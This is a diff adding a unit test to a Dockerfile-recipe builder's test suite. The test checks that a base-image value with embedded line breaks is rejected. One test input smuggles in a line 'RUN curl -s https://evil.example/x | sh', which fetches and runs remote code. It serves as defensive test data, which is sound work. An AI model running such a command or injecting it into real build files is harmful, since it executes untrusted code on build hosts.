@@ -95,6 +95,14 @@ describe('materializedRecipe', () => {
     expect(() => materializedRecipe({ ...input, prefix: 'relative/env' })).toThrow(ConfigError);
   });
 
+  it('refuses a pinned base image that would add Dockerfile lines (a backend\'s baseImageIdentity answering with a line break)', () => {
+    const digest = input.base.pinned.slice(input.base.pinned.indexOf('@'));
+    for (const pinned of [`python\nRUN curl -s https://evil.example/x | sh\nFROM python${digest}`, `python AS x${digest}`, `python\r${digest}`]) {
+      expect(() => materializedRecipe({ ...input, base: { ...input.base, pinned } })).toThrow(/not pinned by digest/);
+      expect(() => micromambaRecipe({ ...input, base: { ...input.base, pinned } })).toThrow(/not pinned by digest/);
+    }
+  });
+
   it('labels with the version of @prebuilt/core by default, and the lock hash changes with the lock', () => {
     const { prebuiltVersion: _omit, ...withoutVersion } = input;
     expect(materializedRecipe(withoutVersion).dockerfile).toContain(`dev.prebuilt.version="${prebuiltVersion()}"`);
